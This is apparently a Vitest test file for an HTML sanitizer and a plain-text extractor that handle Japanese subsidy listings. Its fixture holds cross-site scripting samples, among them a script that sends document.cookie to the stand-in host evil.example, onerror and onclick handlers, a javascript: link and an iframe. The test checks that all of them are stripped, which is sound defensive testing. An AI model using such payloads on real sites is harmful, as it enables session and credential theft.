import { describe, expect, it } from 'vitest';
import { htmlText, sanitizeHtml } from './html-text';

const UNSAFE = [
  '<p>本事業は<strong>中小企業</strong>の取組を支援します。</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="x" onerror="alert(1)">',
  '<p style="color:red" onclick="steal()">事前相談が必要です。</p>',
  '<a href="javascript:void(0)" onclick="steal()">申請はこちら</a>',
  '<iframe src="https://evil.example/frame">frame text</iframe>',
  '<ul><li>機械装置費</li><li>専門家経費</li></ul>',
  '<p>補助率：1/2<br>上限額：100&nbsp;万円 &amp; 定額 &lt;要確認&gt;</p>',
  '<a href="https://www.jgrants-portal.go.jp/subsidy/a0W1" target="_blank">公募ページ</a>',
].join('\n');

describe('sanitizeHtml', () => {
  it('drops scripts, frames, handlers, styles and script links, keeping simple formatting', () => {
    const safe = sanitizeHtml(UNSAFE);
    for (const gone of [
      '<script',
      'evil.example',
      'onerror',
      'onclick',
      'style=',
      'javascript:',
      '<img',
      '<iframe',
      'frame text',
      'target=',
    ]) {
      expect(safe).not.toContain(gone);
    }
    expect(safe).toContain('<strong>中小企業</strong>');
    expect(safe).toContain('<a href="https://www.jgrants-portal.go.jp/subsidy/a0W1">公募ページ</a>');
  });
});

describe('htmlText', () => {
  it('reads paragraphs, breaks and list items as lines, with entities decoded', () => {
    expect(htmlText(UNSAFE)).toBe(
      [
        '本事業は中小企業の取組を支援します。',
        '事前相談が必要です。',
        '申請はこちら',
        '・機械装置費',
        '・専門家経費',
        '補助率：1/2',
        '上限額：100 万円 & 定額 <要確認>',
        '公募ページ',
      ].join('\n'),
    );
  });
});
